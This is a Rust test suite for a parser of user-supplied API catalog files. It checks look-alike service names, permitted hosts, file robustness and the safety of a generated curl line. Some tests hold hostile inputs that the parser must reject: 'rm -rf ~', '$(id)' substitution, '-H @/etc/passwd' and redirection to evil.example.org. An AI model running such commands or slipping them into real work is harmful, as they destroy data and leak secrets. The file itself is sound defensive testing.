//! Catalog files of the organisation's own: what one brings, what none may say, and that nothing in one makes the
//! app stumble.

use std::fs;
use std::path::Path;
use std::sync::LazyLock;

use proptest::prelude::*;

use super::CATALOG;
use crate::own_files::parse_own;
use crate::own_rules::{Known, same_name};
use crate::{AccountParts, Catalog, CheckOffer, OwnFile, OwnProblem, StepSet};

const EXAMPLE: &str = include_str!("../../../../docs/own-system.toml");

static KNOWN: LazyLock<Known> = LazyLock::new(|| Known::of(CATALOG.platforms()));

fn nobody(_: &str) -> bool {
    false
}

fn read(text: &str) -> Result<(), OwnProblem> {
    parse_own(text.as_bytes(), &KNOWN).map(drop)
}

/// What is said of the example with one thing changed.
fn changed(from: &str, to: &str) -> OwnProblem {
    assert!(EXAMPLE.contains(from), "{from} is in the file");
    read(&EXAMPLE.replacen(from, to, 1)).expect_err(to)
}

/// The line of the example where something stands.
fn line_of(what: &str) -> Option<u32> {
    let at = EXAMPLE.lines().position(|line| line.contains(what));
    at.and_then(|at| u32::try_from(at + 1).ok())
}

fn in_folder(files: &[(&str, &[u8])]) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    for (name, bytes) in files {
        fs::write(folder.path().join(name), bytes).unwrap();
    }
    folder
}

fn codes(own: &[OwnFile]) -> Vec<(&str, &str)> {
    let code = |of: &OwnFile| of.content.as_ref().err().map_or("", |problem| problem.code);
    own.iter().map(|of| (of.file.as_str(), code(of))).collect()
}

#[test]
fn the_example_is_a_system_like_any_other() {
    let folder = in_folder(&[("own-system.toml", EXAMPLE.as_bytes())]);
    let (catalog, own) = Catalog::with_own(folder.path(), &nobody);
    assert_eq!(codes(&own), [("own-system.toml", "")]);
    let brought = own[0].content.as_ref().unwrap();
    assert_eq!((brought.id.as_str(), brought.name.as_str()), ("tide-tables", "Tide Tables"));
    assert_eq!(brought.hosts, ["api.tides.example.org"]);
    assert_eq!(own[0].sha256.len(), 64);

    let platform = catalog.platform("tide-tables").unwrap();
    assert_eq!(catalog.platforms().last().unwrap().id, "tide-tables");
    assert_eq!(catalog.platforms().len(), CATALOG.platforms().len() + 1);
    let (kind, purpose) = platform.purpose("read-tides").unwrap();
    assert_eq!(purpose.categories, [crate::Category::Figures]);
    let steps = platform.steps("en", kind, purpose, StepSet::Create, &<_>::default());
    assert_eq!(steps[1].title, "Press “New key”");
    assert_eq!(
        kind.curl(&platform.base_url(kind, &AccountParts::default()).unwrap()).unwrap(),
        "printf 'Authorization: Bearer %s\\n' \"$TIDE_TABLES_API_KEY\" | curl -sS -H @- 'https://api.tides.example.org/v1/harbours?limit=1'"
    );
}

/// One byte more, and it is asked again.
#[test]
fn a_check_is_on_only_for_the_very_bytes_that_were_approved() {
    let folder = in_folder(&[("own.toml", EXAMPLE.as_bytes())]);
    let offer = |catalog: &Catalog| {
        catalog.platform("tide-tables").unwrap().kind("tide-key").unwrap().check_offer()
    };
    let (off, own) = Catalog::with_own(folder.path(), &nobody);
    assert_eq!(offer(&off), CheckOffer::None);
    let seen = own[0].sha256.clone();
    let (on, _) = Catalog::with_own(folder.path(), &|sha256| sha256 == seen);
    assert_eq!(offer(&on), CheckOffer::Harmless);
    fs::write(folder.path().join("own.toml"), format!("{EXAMPLE}\n")).unwrap();
    let (off, own) = Catalog::with_own(folder.path(), &|sha256| sha256 == seen);
    assert_eq!(offer(&off), CheckOffer::None);
    assert_ne!(own[0].sha256, seen);
    // What a file would do is told all the same.
    assert_eq!(own[0].content.as_ref().unwrap().hosts, ["api.tides.example.org"]);
}

#[test]
fn a_broken_file_harms_nothing_else() {
    let twin = EXAMPLE.replace("\"Tide Tables\"", "\"Tides again\"");
    let too_large = vec![b'#'; 256 * 1024 + 1];
    let folder = in_folder(&[
        ("a-broken.toml", b"id = "),
        ("b-good.toml", EXAMPLE.as_bytes()),
        ("c-twin.toml", twin.as_bytes()),
        ("d-large.toml", &too_large),
        ("e-bytes.toml", b"id = \"x\"\nname = \"\xff\""),
        ("f-empty.toml", b""),
        ("notes.txt", b"no catalog file"),
    ]);
    fs::create_dir(folder.path().join("g-folder.toml")).unwrap();
    let (catalog, own) = Catalog::with_own(folder.path(), &nobody);
    assert_eq!(
        codes(&own),
        [
            ("a-broken.toml", "catalog-form"),
            ("b-good.toml", ""),
            ("c-twin.toml", "catalog-twice"),
            ("d-large.toml", "catalog-too-large"),
            ("e-bytes.toml", "catalog-unreadable"),
            ("f-empty.toml", "catalog-form"),
            ("g-folder.toml", "catalog-unreadable"),
        ]
    );
    assert_eq!(catalog.platforms().len(), CATALOG.platforms().len() + 1);
    let line = |at: usize| own[at].content.as_ref().unwrap_err().line;
    assert_eq!((line(0), line(4)), (Some(1), Some(2)));
    assert_eq!(own[2].content.as_ref().unwrap_err().what, "tide-tables");

    let (catalog, own) = Catalog::with_own(Path::new("/no/such/folder"), &nobody);
    assert_eq!((catalog.platforms().len(), own.len()), (CATALOG.platforms().len(), 0));
}

#[test]
fn only_so_many_files_are_read() {
    let names: Vec<String> = (0..52).map(|number| format!("{number:02}.toml")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b"x"[..])).collect();
    let folder = in_folder(&files);
    let (_, own) = Catalog::with_own(folder.path(), &nobody);
    let left = own.iter().filter(|of| of.sha256.is_empty()).count();
    assert_eq!((own.len(), left), (52, 2));
    assert_eq!(codes(&own)[51], ("51.toml", "catalog-too-large"));
}

/// A pipe gives no end, and a device gives no end either.
#[cfg(unix)]
#[test]
fn what_is_no_plain_file_is_not_waited_for() {
    let folder = in_folder(&[]);
    std::os::unix::fs::symlink("/dev/zero", folder.path().join("zero.toml")).unwrap();
    let made = std::process::Command::new("mkfifo").arg(folder.path().join("pipe.toml")).status();
    assert!(made.unwrap().success());
    let (_, own) = Catalog::with_own(folder.path(), &nobody);
    assert_eq!(
        codes(&own),
        [("pipe.toml", "catalog-unreadable"), ("zero.toml", "catalog-unreadable")]
    );
}

#[test]
fn a_form_that_is_not_ours_is_named_with_its_line() {
    let surprise = changed("count = \"many\"", "count = \"many\"\nsurprise = 1");
    assert_eq!((surprise.code, surprise.line), ("catalog-form", line_of("count =").map(|l| l + 1)));
    assert!(surprise.what.contains("surprise"), "{}", surprise.what);
    let unclosed = changed("name = \"Tide Tables\"", "name = \"Tide Tables");
    assert_eq!((unclosed.code, unclosed.line), ("catalog-form", line_of("name = \"Tide")));
    let outcome = changed("outcome = \"limited\"", "outcome = \"perfect\"");
    assert_eq!((outcome.code, outcome.what.contains("perfect")), ("catalog-form", true));
    let deep = format!("id = {}", "[".repeat(200_000));
    assert_eq!(read(&deep).unwrap_err().code, "catalog-form");
}

#[test]
fn texts_that_cannot_be_read_are_named_with_their_line() {
    let half = changed("    .limits = 60 requests a minute.", "    .limits = { $");
    assert_eq!(half.code, "catalog-texts");
    assert!(half.line >= line_of(".limits =") && half.line <= line_of("purpose-read-tides ="));
    let missing = changed("step-copy-key = Copy the key\n    .note = It is shown this once.\n", "");
    assert_eq!(
        (missing.code, missing.what.as_str()),
        ("catalog-texts", "step-copy-key is missing")
    );
    let twice = changed("field-key-name = Name", "step-copy-key = Twice\n\nfield-key-name = Name");
    assert_eq!(twice.code, "catalog-texts");
    let none = changed("\nen = \"\"\"", "\ncy = \"\"\"");
    assert_eq!(none.code, "catalog-contradiction");
    let no_language = changed("\nen = \"\"\"", "\n\"no language\" = \"\"\"");
    assert_eq!(no_language.code, "catalog-texts");
    // The reader of texts calls itself for each brace.
    let deep = changed("60 requests a minute.", &"{".repeat(200_000));
    assert_eq!((deep.code, deep.line), ("catalog-texts", line_of(".limits =")));
}

#[test]
fn a_file_stands_in_for_no_system_we_know() {
    for id in ["stripe", "engaging-networks", "action-network", "own-service", "engagingnetworks"] {
        let problem = changed("id = \"tide-tables\"", &format!("id = \"{id}\""));
        assert_eq!((problem.code, problem.what.as_str()), ("catalog-built-in-id", id));
    }
    for name in [
        "Stripe",
        "STRIPE",
        "S t r i p e",
        "Stripe!",
        "Ｓｔｒｉｐｅ",
        "Strípe",
        "Ѕtrірe",
        "action.network",
        "Spektriх",
        "Dοnοrbοx",
        "Mai1chimp",
        "Our own service",
        "wordpress",
    ] {
        let problem = changed("\"Tide Tables\"", &format!("\"{name}\""));
        assert_eq!(problem.code, "catalog-built-in-name", "{name}");
    }
    for name in ["Stripes of Hope", "Network", "Aktion Netzwerk", "شركة"] {
        read(&EXAMPLE.replacen("\"Tide Tables\"", &format!("\"{name}\""), 1)).expect(name);
    }
    for name in ["", "   ", "\\u200b", "a\\nb", "…", &"x".repeat(61)] {
        let problem = changed("\"Tide Tables\"", &format!("\"{name}\""));
        assert_eq!(problem.code, "catalog-contradiction", "{name}");
    }
    for id in ["", "Tide", "tide tables", "../x", "tide_tables", &"x".repeat(61)] {
        let problem = changed("id = \"tide-tables\"", &format!("id = \"{id}\""));
        assert_eq!(problem.code, "catalog-contradiction", "{id}");
    }
    assert_eq!(same_name("Ａction-Nеtwоrk"), same_name("action network"));
    assert_ne!(same_name("Donorfy"), same_name("Donorbox"));
}

#[test]
fn a_file_names_no_check_of_ours() {
    let start = EXAMPLE.find("method = \"GET\"").unwrap();
    let end = EXAMPLE.find("# What a key looks like").unwrap();
    let check = &EXAMPLE[start..end];
    let problem = changed(check, "strategy = \"spektrix\"\n\n");
    assert_eq!((problem.code, problem.what.as_str()), ("catalog-strategy", "spektrix"));
    let problem = changed(check, "strategy = \"of-mine\"\n\n");
    assert_eq!(problem.code, "catalog-form");
    for made in ["automatic", "here"] {
        let problem = changed("made = \"guided\"", &format!("made = \"{made}\""));
        assert_eq!(problem.code, "catalog-made");
    }
}

#[test]
fn a_key_goes_to_no_host_but_those_the_file_lists() {
    let url = "https://api.tides.example.org/v1/harbours";
    for to in ["https://evil.example.org/v1", "https://tides.example.org/v1/harbours"] {
        let problem = changed(url, to);
        assert_eq!(problem.code, "catalog-built-in-host", "{to}");
        assert!(to.contains(&problem.what), "{problem:?}");
    }
    let elsewhere = changed(url, "https://evil.example.org/v1");
    assert_eq!(elsewhere.line, line_of("url = \"https"));
    // A system we know, and what lies beside it or below it.
    for host in [
        "actionnetwork.org",
        "ActionNetwork.org",
        "api.stripe.com",
        "files.stripe.com",
        "x.api.stripe.com",
        "us12.api.mailchimp.com",
        "us3.engagingnetworks.app",
        "secure3.convio.net",
        "203.0.113.5",
        "0x7f.1",
    ] {
        let problem = changed("host = \"api.tides.example.org\"", &format!("host = \"{host}\""));
        assert_eq!(problem.code, "catalog-built-in-host", "{host}");
    }
    // In an account's address too, and whatever is typed into it.
    let regions = "[[regions]]\nid = \"main\"\nhost = \"api.tides.example.org\"";
    let account = |url: &str| {
        let account = format!("[account]\nmax_length = 20\nbase_url = \"{url}\"");
        let own = EXAMPLE.replacen(regions, &account, 1).replacen(
            "region-main = Our Tide Tables account (api.tides.example.org)",
            "account = Harbour\n    .help = Its name.",
            1,
        );
        read(&own).map_err(|problem| problem.code)
    };
    assert_eq!(account("https://api.tides.example.org/of/{name}"), Ok(()));
    for (url, code) in [
        ("https://api.stripe.com/{name}", "catalog-built-in-host"),
        ("https://other.example.org/{name}", "catalog-built-in-host"),
        ("https://{name}.example.org", "catalog-contradiction"),
        ("https://{name}.stripe.com", "catalog-contradiction"),
        ("https://api.tides.example.org/'; rm -rf ~;'", "catalog-contradiction"),
        ("http://api.tides.example.org", "catalog-contradiction"),
    ] {
        assert_eq!(account(url), Err(code), "{url}");
    }
    // Where the address is typed no host is listed.
    let typed = EXAMPLE.replacen(regions, "[account]\nname = false", 1);
    assert_eq!(read(&typed).unwrap_err().code, "catalog-built-in-host");
}

/// The line for a shell is pasted by somebody who trusts it.
#[test]
fn a_line_for_a_shell_only_sends_the_key() {
    let start = EXAMPLE.find("curl = ").unwrap();
    let end = EXAMPLE.find("docs = ").unwrap();
    let with = |line: &str| {
        let line = format!("curl = {}\n", toml::Value::from(line));
        read(&EXAMPLE.replacen(&EXAMPLE[start..end], &line, 1)).map_err(|problem| problem.code)
    };
    for good in [
        "printf 'X-Key: %s\\n' \"$TIDE_TABLES_API_KEY\" | curl -sS -H @- '{base_url}'",
        "printf 'user = \"%s:%s\"\\n' \"$TIDE_LOGIN\" \"$TIDE_TABLES_API_KEY\" | curl -sS --config - '{base_url}/me'",
        "printf 'user = \"any:%s\"\\n' \"$TIDE_TABLES_API_KEY\" | curl -sS --config - '{base_url}/me?a=b&c=%20'",
    ] {
        assert_eq!(with(good), Ok(()), "{good}");
    }
    let good = "printf 'X-Key: %s\\n' \"$TIDE_TABLES_API_KEY\" | curl -sS -H @- '{base_url}/x'";
    for (from, to) in [
        ("'{base_url}/x'", "'{base_url}/x'; rm -rf ~"),
        ("'{base_url}/x'", "'https://evil.example.org'"),
        ("'{base_url}/x'", "'{base_url}@evil.example.org'"),
        ("'{base_url}/x'", "'{base_url}/x' 'https://evil.example.org'"),
        ("-H @-", "-H @- -x evil.example.org"),
        ("-H @-", "-H @/etc/passwd"),
        ("X-Key: %s", "X-Key: %s$(id)"),
        ("X-Key: %s", "X-Key: %s\\nHost: evil.example.org"),
        ("\"$TIDE_TABLES_API_KEY\"", "\"$HOME\""),
        ("\"$TIDE_TABLES_API_KEY\"", "\"$(id)\""),
        ("\"$TIDE_TABLES_API_KEY\"", "$TIDE_TABLES_API_KEY"),
        ("printf", "curl evil.example.org; printf"),
    ] {
        assert!(good.contains(from));
        let line = good.replacen(from, to, 1);
        assert_eq!(with(&line), Err("catalog-contradiction"), "{line}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

    /// Whatever lies in the folder: an answer, and the systems we know as before.
    #[test]
    fn no_bytes_make_it_stumble(bytes in prop::collection::vec(any::<u8>(), 0..600)) {
        let _ = parse_own(&bytes, &KNOWN);
    }

    /// The same with what is nearly a catalog file.
    #[test]
    fn no_change_of_a_file_makes_it_stumble(
        at in 0..EXAMPLE.len(),
        length in 0..80_usize,
        instead in prop_oneof![any::<String>(), "[\\[\\]{}=\"'.$#0-9a-z\n-]{0,40}"],
    ) {
        let mut bytes = EXAMPLE.as_bytes().to_vec();
        let end = (at + length).min(bytes.len());
        bytes.splice(at..end, instead.bytes());
        match parse_own(&bytes, &KNOWN) {
            Ok(platform) => prop_assert!(CATALOG.platform(&platform.id).is_none()),
            Err(problem) => {
                prop_assert!(problem.code.starts_with("catalog-"));
                prop_assert!(problem.what.chars().count() <= 201 && !problem.what.contains('\n'));
                let lines = u32::try_from(bytes.split(|byte| *byte == b'\n').count()).unwrap();
                prop_assert!(problem.line.is_none_or(|line| (1..=lines).contains(&line)));
            }
        }
    }
}

/// What a purpose reaches and when it ends may be left out, and is one of a few words where it is said.
#[test]
fn what_a_purpose_reaches_is_optional() {
    let said =
        "categories = [\"figures\"]        # what of supporters it reaches; may be left out\n";
    assert!(EXAMPLE.contains(said));
    read(&EXAMPLE.replace(said, "")).unwrap();
    read(
        &EXAMPLE.replace(said, "categories = [\"giving\", \"actions\"]\nends_days = 4294967295\n"),
    )
    .unwrap();
    assert_eq!(changed("[\"figures\"]", "[\"everything\"]").code, "catalog-form");
}
